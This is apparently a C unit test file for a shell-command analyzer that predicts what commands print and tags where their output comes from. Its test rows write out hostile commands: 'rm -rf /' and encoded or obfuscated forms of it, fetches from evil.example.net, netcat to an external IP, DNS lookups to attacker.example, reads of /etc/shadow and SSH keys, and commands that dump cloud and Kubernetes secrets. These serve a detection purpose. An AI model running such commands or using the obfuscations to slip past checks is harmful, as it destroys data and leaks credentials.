/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "runner/base/mem.h"
#include "runner/base/strbuf.h"
#include "tests/unit/validators/shell_knowledge_words.h"

/* The origins that a test names, as letters: e external network, n own network, d decoded, s secret, v environment, f file, c command, i input,
 * a assembled, l literal. */
static void show_origin(struct strbuf *out, unsigned int origin)
{
	static const char letters[] = "endsvfcial";

	for (unsigned int i = 0; i < 10; i++)
		if (origin & 1U << i)
			strbuf_addch(out, letters[i]);
}

/* Input is literal; NULL: there is none; "?…" is not known. Expected: the origins, then the text, or nothing more when it is not known;
 * "none": no row knows the command. */
static const struct {
	const char *line, *input, *expected;
} rows[] = {
	{ "echo rm -rf /", NULL, "l|rm -rf /\n" },
	{ "echo -n a b", NULL, "l|a b" },
	{ "echo -e 'a\\tb\\x72m\\0101'", NULL, "al|a\tbrmA\n" },
	{ "echo 'a\\tb'", NULL, "l|a\\tb\n" },
	{ "echo -ne 'a\\cb'", NULL, "l|a" },
	{ "echo -x a", NULL, "l|-x a\n" },
	{ "echo", NULL, "|\n" },
	{ "echo a ?${X}", NULL, "l~a ${X}\n" },
	{ "/bin/echo a", NULL, "l|a\n" },
	{ "echo -neE 'a\\tb'", NULL, "l|a\\tb" },
	{ "printf rm", NULL, "l|rm" },
	{ "printf 'r%s' m", NULL, "al|rm" },
	{ "printf '\\162\\155'", NULL, "al|rm" },
	{ "printf '\\x72\\x6d\\x20/'", NULL, "al|rm /" },
	{ "printf '%s\\n' a b c", NULL, "l|a\nb\nc\n" },
	{ "printf '%s %s\\n' a b c", NULL, "l|a b\nc \n" },
	{ "printf '%d|%5d|%-5d|%05d' 7 7 7 7", NULL, "l|7|    7|7    |00007" },
	{ "printf '%x %X %o %#x' 255 255 8 255", NULL, "l|ff FF 10 0xff" },
	{ "printf '%c%c' rabbit mouse", NULL, "al|rm" },
	{ "printf '%b' 'r\\x6d'", NULL, "al|rm" },
	{ "printf '%q' 'a b'", NULL, "l|a\\ b" },
	{ "printf '%.2s' rmdir", NULL, "l|rm" },
	{ "printf '%*s' 4 a", NULL, "l|   a" },
	{ "printf '%%'", NULL, "l|%" },
	{ "printf '%s%s' r m", NULL, "al|rm" },
	{ "printf -- '%s' a", NULL, "l|a" },
	{ "printf '%d' \"'A\"", NULL, "l|65" },
	{ "printf '%.2f' 3.14159", NULL, "l|3.14" },
	{ "printf 'a\\cb'", NULL, "l|a" },
	{ "printf '%s' ?${X}", NULL, "l~${X}" },
	{ "printf '\\u0072m'", NULL, "al|rm" },
	{ "printf", NULL, "none" },
	{ "printf '%(%Y)T'", NULL, "l~" },
	{ "cat", "a\nb\n", "l|a\nb\n" },
	{ "cat -", "a\n", "l|a\n" },
	{ "cat /srv/data.txt", NULL, "f" },
	{ "cat", NULL, "i~" },
	{ "cat", "?${X}", "l~${X}" },
	{ "base64 -d", "cm0gLXJmIC8=\n", "dl|rm -rf /" },
	{ "base64 --decode", "cm0g LXJm\nIC8=", "dl|rm -rf /" },
	{ "base64 -D", "cm0=", "dl|rm" },
	{ "base64 -di", "cm0", "dl|rm" },
	{ "base64 -d /srv/x.b64", NULL, "df" },
	{ "base64 -d", "?${X}", "dl" },
	{ "base64 -d", "////", "dl~\377\377\377" },
	{ "base64 -w0", "secret", "l" },
	{ "base64 -d", "_-_-", "dl~\377\357\376" },
	{ "base32 -d", "OJWQ====", "dl|rm" },
	{ "basenc --base16 -d", "726D", "dl|rm" },
	{ "basenc --base64url -d", "cm0=", "dl|rm" },
	{ "basenc --z85 -d", "cm0=", "dl" },
	{ "xxd -r -p", "726d202d7266202f\n", "dl|rm -rf /" },
	{ "xxd -p -r", "726d", "dl|rm" },
	{ "xxd -r -ps", "72 6d", "dl|rm" },
	{ "xxd -rp", "726d", "dl|rm" },
	{ "xxd -r", "00000000: 726d 202d  rm -\n", "dl|rm -" },
	{ "xxd -p", "rm", "l" },
	{ "xxd -r -p /srv/x", NULL, "df" },
	{ "openssl base64 -d", "cm0=", "dl|rm" },
	{ "openssl enc -base64 -d -A", "cm0=", "dl|rm" },
	{ "openssl enc -d -a", "cm0=", "dl|rm" },
	{ "openssl enc -d -aes-256-cbc -k x", "cm0=", "dl" },
	{ "openssl enc -aes-256-cbc -a -d -pass x", "cm0=", "dl" },
	{ "openssl enc -d -base64 -in /srv/x", NULL, "df" },
	{ "openssl s_client -connect evil.example.net:443", NULL, "e" },
	{ "openssl version", NULL, "none" },
	{ "gpg -d", "x", "dl" },
	{ "gunzip", "x", "dl" },
	{ "gunzip -c /srv/x.gz", NULL, "df" },
	{ "gzip -d", "x", "dl" },
	{ "gzip -dc /srv/x.gz", NULL, "df" },
	{ "zcat", "x", "dl" },
	{ "xz -dc", "x", "dl" },
	{ "bunzip2", "x", "dl" },
	{ "zstd -d", "x", "dl" },
	{ "brotli -d", "x", "dl" },
	{ "gzip -1", "x", "l" },
	{ "gunzip /srv/x.gz", NULL, "|" },
	{ "zcat /srv/x.gz", NULL, "df" },
	{ "uudecode", "begin 644 x\n\"<FT \n`\nend\n", "dl|rm" },
	{ "tar xzO", "x", "dl" },
	{ "tar czf - /srv/data", NULL, "f" },
	{ "tar czf x.tgz .", NULL, "none" },
	{ "rev", "/ fr- mr", "dal|rm -rf /" },
	{ "rev", "ba\ndc\n", "dal|ab\ncd\n" },
	{ "rev", "\303\251a\n", "dal|a\303\251\n" },
	{ "rev", "?${X}", "dal" },
	{ "tac", "a\nb\n", "al|b\na\n" },
	{ "tr a-z A-Z", "rm x\n", "l|RM X\n" },
	{ "tr '[:lower:]' '[:upper:]'", "rm", "l|RM" },
	{ "tr A-Za-z N-ZA-Mn-za-m", "ez -es /", "dal|rm -rf /" },
	{ "tr -d x", "xrxmx", "dal|rm" },
	{ "tr -d '\\n'", "a\nb\n", "l|ab" },
	{ "tr -d '\\012'", "a\nb\n", "l|ab" },
	{ "tr -s ' '", "a   b", "l|a b" },
	{ "tr ' ' '\\n'", "a b", "l|a\nb" },
	{ "tr -cd 0-9", "a1b2", "l|12" },
	{ "tr -c a-z _", "a1b", "l|a_b" },
	{ "tr a-c x", "abcd", "dal|xxxd" },
	{ "tr -d", "?${X}", "none" },
	{ "tr '[a*3]' b", "x", "dal" },
	{ "cut -c1-2", "rmdir\n", "al|rm\n" },
	{ "cut -c 1,3-", "abcd\n", "al|acd\n" },
	{ "cut -d: -f1", "root:x\nops:y\n", "l|root\nops\n" },
	{ "cut -d : -f 2-", "a:b:c\n", "l|b:c\n" },
	{ "cut -d, -f1,3 --output-delimiter=-", "a,b,c\n", "l|a-c\n" },
	{ "cut -d: -f2 -s", "a\nb:c\n", "l|c\n" },
	{ "cut -d: -f9", "a:b\n", "l|\n" },
	{ "cut -d: -f1 /etc/passwd", NULL, "f" },
	{ "head -1", "a\nb\n", "l|a\n" },
	{ "head -n 2", "a\nb\nc\n", "l|a\nb\n" },
	{ "head -n -1", "a\nb\nc\n", "l|a\nb\n" },
	{ "head -c 2", "rmdir", "al|rm" },
	{ "head -c -3", "rmdir", "al|rm" },
	{ "tail -1", "a\nb\n", "l|b\n" },
	{ "tail -n +2", "a\nb\nc\n", "l|b\nc\n" },
	{ "tail -c 2", "xxrm", "al|rm" },
	{ "tail -c +3", "xxrm", "al|rm" },
	{ "tail +2", "a\nb\n", "l|b\n" },
	{ "tail -n 5", "a\nb", "l|a\nb" },
	{ "sort", "b\na\n", "l|a\nb\n" },
	{ "sort -r", "a\nb\n", "l|b\na\n" },
	{ "sort -u", "b\na\nb\n", "l|a\nb\n" },
	{ "sort -n", "10\n9\n", "l|9\n10\n" },
	{ "sort -k2", "a\nb\n", "l~a\nb\n" },
	{ "uniq", "a\na\nb\n", "l|a\nb\n" },
	{ "uniq -c", "a\n", "l" },
	{ "paste -sd ''", "r\nm\n", "al|rm\n" },
	{ "paste -s -d ' '", "a\nb\n", "al|a b\n" },
	{ "paste -d, - -", "a\nb\n", "l" },
	{ "sed s/x/rm/", "x -rf /\n", "al|rm -rf /\n" },
	{ "sed 's#_# #g'", "rm_-rf_/\n", "al|rm -rf /\n" },
	{ "sed -e s/a/r/ -e s/b/m/", "ab\n", "al|rm\n" },
	{ "sed 's/\\(.\\)\\(.\\)/\\2\\1/'", "mr\n", "al|rm\n" },
	{ "sed -E 's/(x)(.*)/\\2/'", "xrm\n", "al|rm\n" },
	{ "sed 's/[0-9]//g;s/ //g'", "r1 2m\n", "al|rm\n" },
	{ "sed y/ab/rm/", "ab\n", "al|rm\n" },
	{ "sed -n 2p", "a\nb\nc\n", "al|b\n" },
	{ "sed 1d", "a\nb\n", "al|b\n" },
	{ "sed '$d'", "a\nb\n", "al|a\n" },
	{ "sed -n '/b/p'", "a\nb\n", "al|b\n" },
	{ "sed '2,3d'", "a\nb\nc\nd\n", "al|a\nd\n" },
	{ "sed 's/a/b/2'", "aaa\n", "al|aba\n" },
	{ "sed 's/^/rm /'", "x\n", "al|rm x\n" },
	{ "sed 's/^/> /'", "\n1234567\n12345678\n123456789\n\n\v\n1\x8a\x0b\n0123456789abcdef\n7",
	  "al|> \n> 1234567\n> 12345678\n> 123456789\n> \n> \v\n> 1\x8a\x0b\n> 0123456789abcdef\n> 7\n" },
	{ "sed 's/^/sixteen letters:/'", "a\nb\n12345678\n", "al|sixteen letters:a\nsixteen letters:b\nsixteen letters:12345678\n" },
	{ "sed 's/^/seventeen letters/'", "a\nb\n1234567\n", "al|seventeen lettersa\nseventeen lettersb\nseventeen letters1234567\n" },
	{ "sed 's/$/ y/'", "x\n", "al|x y\n" }, { "sed 's/^/&-/g'", "x\n", "al|-x\n" }, { "sed 's/^/y/2'", "x\n", "al|x\n" },
	/* each edit has the line of the one before, whatever stands between them */
	{ "sed -e s/a/bb/ -e p -e s/b/c/ -e s/b/dd/ -e p -e y/d/e/", "a\n", "al|bb\ncdd\ncee\n" },
	{ "sed -n 's/a/b/p;s/b/c/p'", "a\n", "al|b\nc\n" },
	{ "sed 's/a*/x/g'", "baac\n", "al|xbxcx\n" },
	{ "sed 's/A/b/I'", "a\n", "al|b\n" },
	{ "sed 2q", "a\nb\nc\n", "al|a\nb\n" },
	{ "sed 's/a\\|b/c/'", "a\n", "al" },
	{ "sed -i s/a/b/ f", NULL, "|" },
	{ "sed s/a/b/ /srv/f", NULL, "fa" },
	{ "sed -n '1{p}'", "a\n", "al" },
	{ "sed 's/&/\\&/'", "a&\n", "al|a&\n" },
	{ "grep rm", "rm x\nls\n", "l|rm x\n" },
	{ "grep -v ls", "rm x\nls\n", "l|rm x\n" },
	{ "grep -x rm", "rm\nrmdir\n", "l|rm\n" },
	{ "grep -o 'r[a-z]'", "xrm\n", "al|rm\n" },
	{ "grep -i RM", "rm\n", "l|rm\n" },
	{ "grep -F a.b", "a.b\naxb\n", "l|a.b\n" },
	{ "grep -E '^r.+$'", "rm\nr\n", "l|rm\n" },
	{ "fgrep '*'", "a*\nb\n", "l|a*\n" },
	{ "grep -e rm", "rm\n", "l|rm\n" },
	{ "grep -E 'a|b'", "a\n", "l" },
	{ "grep root /etc/passwd", NULL, "f" },
	{ "grep rm", "?${X}", "l" },
	{ "awk '{print $1}'", "rm x\n", "al|rm\n" },
	{ "awk '{print $1 $2}'", "r m\n", "al|rm\n" },
	{ "awk '{print $2, $1}'", "x rm\n", "al|rm x\n" },
	{ "awk -F: '{print $1}'", "root:x\n", "al|root\n" },
	{ "awk '{print $NF}'", "a b rm\n", "al|rm\n" },
	{ "awk 'NR==2{print $1}'", "a\nrm\n", "al|rm\n" },
	{ "awk 'NR==2'", "a\nrm\n", "al|rm\n" },
	{ "awk '/rm/ {print}'", "a\nrm\n", "al|rm\n" },
	{ "awk 'BEGIN{print \"rm -rf /\"}'", NULL, "al|rm -rf /\n" },
	{ "awk 'BEGIN { printf \"%c%c\", 114, 109 }'", NULL, "al|rm" },
	{ "awk 'BEGIN{printf(\"%s%s\\n\",\"r\",\"m\")}'", NULL, "al|rm\n" },
	{ "awk '{s+=$1} END {print s}'", "1\n", "al" },
	{ "awk '{print $1}' /etc/passwd", NULL, "fa" },
	{ "xargs", "a\nb\n", "al|a b\n" },
	{ "xargs echo x", "a\nb\n", "al|x a b\n" },
	{ "tee out", "a\n", "l|a\n" },
	{ "jq -r .a", "{}", "l" },
	{ "jq -r '.a|@base64d'", "{}", "dl" },
	{ "dd if=/dev/sda bs=1", NULL, "f" },
	{ "dd bs=1 count=2", "ab", "l|ab" },
	{ "dd of=/tmp/x", "ab", "|" },
	{ "basename /bin/rm", NULL, "l|rm\n" },
	{ "basename a/b.sh .sh", NULL, "l|b\n" },
	{ "basename /", NULL, "l|/\n" },
	{ "dirname /bin/rm", NULL, "l|/bin\n" },
	{ "dirname rm", NULL, "l|.\n" },
	{ "dirname /rm", NULL, "l|/\n" },
	{ "realpath /usr/../bin/rm", NULL, "l|/bin/rm\n" },
	{ "readlink -f /bin//rm", NULL, "l|/bin/rm\n" },
	{ "readlink /bin/sh", NULL, "none" },
	{ "which rm", NULL, "l|rm\n" },
	{ "command -v rm", NULL, "l|rm\n" },
	{ "type -p rm", NULL, "l|rm\n" },
	{ "type rm", NULL, "none" },
	{ "command rm x", NULL, "none" },
	{ "seq 3", NULL, "l|1\n2\n3\n" },
	{ "seq 2 2 6", NULL, "l|2\n4\n6\n" },
	{ "seq -2 2", NULL, "l|-2\n-1\n0\n1\n2\n" }, { "seq 98 101", NULL, "l|98\n99\n100\n101\n" },
	{ "seq 3 -1 1", NULL, "l|3\n2\n1\n" }, { "seq -s <-> 9 11", NULL, "l|9<->10<->11\n" },
	{ "seq -s , 3", NULL, "l|1,2,3\n" }, { "seq -10 9 26", NULL, "l|-10\n-1\n8\n17\n26\n" },
	{ "seq 985 7 1006", NULL, "l|985\n992\n999\n1006\n" }, { "seq 0 5 10", NULL, "l|0\n5\n10\n" },
	{ "expr 2 + 3", NULL, "l|5\n" },
	{ "expr substr xrmx 2 2", NULL, "al|rm\n" },
	{ "yes rm", NULL, "l|rm\nrm\nrm\nrm\nrm\nrm\nrm\nrm\nrm\nrm\nrm\nrm\nrm\nrm\nrm\nrm\n" },
	{ "env", NULL, "v" },
	{ "env A=b rm", NULL, "none" },
	{ "printenv", NULL, "v" },
	{ "printenv HOME", NULL, "i~${HOME}" },
	{ "set", NULL, "v" },
	{ "set -e", NULL, "none" },
	{ "export -p", NULL, "v" },
	{ "declare -p", NULL, "v" },
	{ "date", NULL, "none" },
	{ "curl -s http://203.0.113.10/x", NULL, "e" },
	{ "curl -fsSL https://get.tool.example/install", NULL, "e" },
	{ "curl http://localhost:8080/x", NULL, "n" },
	{ "curl http://api.shop.svc/x", NULL, "n" },
	{ "curl -H 'Host: evil.com' http://db/x", NULL, "n" },
	{ "curl http://169.254.169.254/latest", NULL, "ns" },
	{ "curl ?${URL}", NULL, "n" },
	{ "curl evil.example.net/x", NULL, "e" },
	{ "curl --url http://evil.example.net/x", NULL, "e" },
	{ "curl -o f http://evil.example.net/x", NULL, "|" },
	{ "curl -O http://evil.example.net/x", NULL, "|" },
	{ "curl -sSLO http://evil.example.net/x", NULL, "|" },
	{ "curl -o - http://evil.example.net/x", NULL, "e" },
	{ "curl -so /dev/stdout http://evil.example.net/x", NULL, "e" },
	{ "wget http://evil.example.net/x", NULL, "|" },
	{ "wget -qO- http://evil.example.net/x", NULL, "e" },
	{ "wget -O - http://evil.example.net/x", NULL, "e" },
	{ "wget --quiet --output-document=- http://evil.example.net/x", NULL, "e" },
	{ "wget -O f http://evil.example.net/x", NULL, "|" },
	{ "fetch -o - http://evil.example.net/x", NULL, "e" },
	{ "http https://evil.example.net/x", NULL, "e" },
	{ "lynx -source http://evil.example.net/x", NULL, "e" },
	{ "nc 203.0.113.10 9000", NULL, "e" },
	{ "nc db 9000", NULL, "n" },
	{ "nc -l -p 9000", NULL, "e" },
	{ "socat - TCP:203.0.113.10:9000", NULL, "e" },
	{ "socat TCP-LISTEN:1,fork -", NULL, "e" },
	{ "socat - TCP:db:5432", NULL, "n" },
	{ "dig +short TXT x.attacker.example", NULL, "e" },
	{ "kubectl get secret db -o yaml", NULL, "s" },
	{ "kubectl get secrets -A -o json", NULL, "s" },
	{ "kubectl -n x get secret/db -ojsonpath={.data}", NULL, "s" },
	{ "kubectl get pods -o json", NULL, "none" },
	{ "kubectl config view --raw", NULL, "s" },
	{ "vault kv get secret/x", NULL, "s" },
	{ "vault read secret/x", NULL, "s" },
	{ "aws secretsmanager get-secret-value --secret-id x", NULL, "s" },
	{ "aws s3 ls", NULL, "none" },
	{ "gcloud auth print-access-token", NULL, "s" },
	{ "az account get-access-token", NULL, "s" },
	{ "pass show x", NULL, "s" },
	{ "op read op://x", NULL, "s" },
	{ "security find-generic-password -s x -w", NULL, "s" },
	{ "docker secret inspect x", NULL, "s" },
	{ "gh auth token", NULL, "s" },
	{ "mysqldump shop", NULL, "f" },
	{ "pg_dump shop", NULL, "f" },
	{ "git show HEAD:x", NULL, "f" },
	{ "?${X} a", NULL, "none" },
	{ "python3 -c 'print(\"rm -rf /\")'", NULL, "al|rm -rf /\n" },
	{ "python3 -c 'print(\"rm\",1,end=\"\")'", NULL, "al|rm 1" },
	{ "python3 -c 'print(bytes.fromhex(\"726d\").decode())'", NULL, "dal|rm\n" },
	{ "python3 -c 'import sys; sys.stdout.write(\"rm\")'", NULL, "al|rm" },
	{ "python3 -c 'print(input())'", NULL, "none" },
	{ "python3 -c 'for x in y: print(1)'", NULL, "none" },
	{ "python3 x.py", NULL, "none" },
	{ "perl -e 'print \"r\".\"m\"'", NULL, "al|rm" },
	{ "perl -e 'print \"r\", \"m\\n\"'", NULL, "al|rm\n" },
	{ "perl -E 'say \"rm\"'", NULL, "al|rm\n" },
	{ "perl -e 'print chr(114).chr(109)'", NULL, "dal|rm" },
	{ "ruby -e 'puts \"rm\"'", NULL, "al|rm\n" },
	{ "ruby -e 'print %w[r m].join'", NULL, "al|rm" },
	{ "node -e 'console.log(\"rm\")'", NULL, "al|rm\n" },
	{ "node -e 'process.stdout.write(\"rm\")'", NULL, "al|rm" },
	{ "php -r 'echo \"rm\";'", NULL, "al|rm" },
	{ "php -r 'print(\"rm\");'", NULL, "al|rm" },
	{ "lua -e 'io.write(\"rm\")'", NULL, "al|rm" },
	{ "lua -e 'print(\"rm\")'", NULL, "al|rm\n" },
	{ "python3 -c 'import os; os.system(\"id\"); print(1)'", NULL, "none" },
	{ "iconv -f utf-8 -t ascii", "rm x\n", "l|rm x\n" },
	{ "iconv -f utf-16 -t ascii", "rm\n", "dl" },
	{ "python3 -m base64 -d", "cm0=", "dl|rm" },
	{ "python3 -m base64", "cm0=", "none" },
	{ "unknown-program a", NULL, "none" },
};

static void tells_the_output(void **state)
{
	size_t failed = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		autoarena struct arena arena = ARENA_INIT;
		autostrbuf struct strbuf out = STRBUF_INIT(STRBUF_NO_MAX);
		struct shell_value argv[TEST_MAX_WORDS], input, ret;
		size_t argc = test_words(&arena, rows[i].line, argv);

		if (rows[i].input)
			input = test_value(&arena, rows[i].input, strlen(rows[i].input), ORIGIN_LITERAL);
		if (!knowledge_output(&arena, argv, argc, rows[i].input ? &input : NULL, &ret)) {
			strbuf_addstr(&out, "none");
		} else {
			assert_non_null(ret.text);
			assert_int_equal(ret.text[ret.len], 0);
			show_origin(&out, ret.origin);
			if (ret.known)
				strbuf_addf(&out, "|%s", ret.text);
			else if (strncmp(ret.text, "$(", 2))
				strbuf_addf(&out, "~%s", ret.text);
		}
		if (!strcmp(out.buf, rows[i].expected))
			continue;
		print_error("%s\n  is       %s\n  expected %s\n", rows[i].line, out.buf, rows[i].expected);
		failed++;
	}
	assert_int_equal(failed, 0);
}

/* What a file holds goes on through what reads it. */
static void keeps_the_origin_of_files(void **state)
{
	static const struct {
		const char *line, *path;
		unsigned int more;
	} files[] = {
		{ "cat /etc/shadow", "/etc/shadow", 0 },
		{ "head -5 /etc/shadow", "/etc/shadow", 0 },
		{ "cut -d: -f1 /etc/shadow", "/etc/shadow", 0 },
		{ "base64 -w0 /etc/shadow", "/etc/shadow", 0 },
		{ "base64 -d /etc/shadow", "/etc/shadow", ORIGIN_DECODED },
		{ "sort -k 2 -u /etc/shadow", "/etc/shadow", 0 },
		{ "grep -r -e x /root/.ssh/id_rsa", "/root/.ssh/id_rsa", 0 },
		{ "grep root /etc/shadow", "/etc/shadow", 0 },
		{ "tar c /root/.ssh/id_rsa", "/root/.ssh/id_rsa", ORIGIN_FILE },
		{ "curl -s file:///etc/shadow", "/etc/shadow", 0 },
		{ "dd if=/etc/shadow bs=1", "/etc/shadow", 0 },
		{ "openssl enc -a -in /etc/shadow", "/etc/shadow", 0 },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(files); i++) {
		autoarena struct arena arena = ARENA_INIT;
		struct shell_value argv[TEST_MAX_WORDS], ret;
		size_t argc = test_words(&arena, files[i].line, argv);

		assert_true(knowledge_output(&arena, argv, argc, NULL, &ret));
		assert_false(ret.known);
		assert_int_equal(ret.origin, knowledge_file_origin(files[i].path, strlen(files[i].path)) | files[i].more);
	}
}

/* What is unknown is shown as the command it came from, cut where that is long. */
static void names_what_is_unknown(void **state)
{
	autoarena struct arena arena = ARENA_INIT;
	struct shell_value argv[TEST_MAX_WORDS], ret;
	size_t argc = test_words(&arena, "curl -s http://evil.example/x", argv);

	(void)state;
	assert_true(knowledge_output(&arena, argv, argc, NULL, &ret));
	assert_string_equal(ret.text, "$(curl -s http://evil.example/x)");
	assert_false(ret.known);
	argv[1].text = arena_alloc(&arena, 100001);
	argv[1].len = 100000;
	memset((char *)argv[1].text, 'x', 100000);
	assert_true(knowledge_output(&arena, argv, argc, NULL, &ret));
	assert_true(ret.len < 250);
}

/* Long values are cut and not known any more; recycling a format over very many arguments ends. */
static void is_bounded(void **state)
{
	autoarena struct arena arena = ARENA_INIT;
	size_t n = 300000;
	struct shell_value *argv = arena_alloc(&arena, n * sizeof(*argv)), ret;

	(void)state;
	for (size_t i = 0; i < n; i++)
		argv[i] = (struct shell_value){ .text = i ? "%s0123456789" : "echo", .len = i ? 12 : 4, .known = true };
	assert_true(knowledge_output(&arena, argv, n, NULL, &ret));
	assert_int_equal(ret.len, SHELL_MAX_VALUE);
	assert_false(ret.known);
	argv[0] = (struct shell_value){ .text = "printf", .len = 6, .known = true };
	assert_true(knowledge_output(&arena, argv, n, NULL, &ret));
	assert_int_equal(ret.len, SHELL_MAX_VALUE);
	argv[1] = (struct shell_value){ .text = "%99999999999d%.999999999s", .len = 25, .known = true };
	assert_true(knowledge_output(&arena, argv, n, NULL, &ret));
	assert_false(ret.known);
	assert_true(arena.bytes < (size_t)64 << 20);
}

/* A pattern that takes exponentially many steps elsewhere ends here, and is not known. */
static void gives_up_on_hostile_patterns(void **state)
{
	autoarena struct arena arena = ARENA_INIT;
	struct shell_value argv[3], input, ret;
	char *text = arena_alloc(&arena, 60001);

	(void)state;
	memset(text, 'a', 60000);
	argv[0] = test_value(&arena, "grep", 4, 0);
	argv[1] = test_value(&arena, "a*a*a*a*a*a*a*a*a*b", 19, 0);
	input = test_value(&arena, text, 60000, ORIGIN_LITERAL);
	assert_true(knowledge_output(&arena, argv, 2, &input, &ret));
	assert_false(ret.known);
	argv[0] = test_value(&arena, "sed", 3, 0);
	argv[1] = test_value(&arena, "s/a*a*a*a*a*a*b//g", 18, 0);
	assert_true(knowledge_output(&arena, argv, 2, &input, &ret));
	assert_false(ret.known);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(tells_the_output),
		cmocka_unit_test(keeps_the_origin_of_files),
		cmocka_unit_test(names_what_is_unknown),
		cmocka_unit_test(is_bounded),
		cmocka_unit_test(gives_up_on_hostile_patterns),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
